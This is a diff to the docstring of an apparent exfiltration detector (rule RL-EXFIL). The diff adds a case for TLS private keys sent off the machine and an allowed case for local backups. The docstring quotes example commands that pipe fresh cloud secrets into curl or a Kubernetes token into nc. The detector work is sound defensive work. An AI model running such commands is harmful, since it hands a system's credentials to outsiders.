@@ -13,7 +13,9 @@ What it catches
     `%USERPROFILE%\\.aws`, `$env:APPDATA\\gcloud`). A new cloud or cluster secret piped
     straight into an upload of what it reads (`az ad sp credential reset ... | curl -d @-
     URL`, `kubectl create token SA | nc HOST PORT`). A CI workflow's whole set of secrets at
-    once (GitHub Actions' `${{ toJSON(secrets) }}`) posted anywhere.
+    once (GitHub Actions' `${{ toJSON(secrets) }}`) posted anywhere. A server's TLS private
+    keys (`/etc/ssl/private`, `/etc/letsencrypt`) packed into a dot-file in a scratch folder
+    and sent.
 
 Why it is a redline (RL-EXFIL)
     Shipping credentials off the machine hands the keys of the system to someone else.
@@ -30,7 +32,7 @@ Allowed instead
     a secret scan reported locally, mailing failed-login counts, saved Wi-Fi
     networks moved to one's own new laptop and loaded there, the variable names of one's own
     service's environment listed locally, an install hook that builds or checks the package
-    and sends nothing.
+    and sends nothing, a dated backup of `/etc/letsencrypt` synced to one's own NAS.
 """
 
 from __future__ import annotations
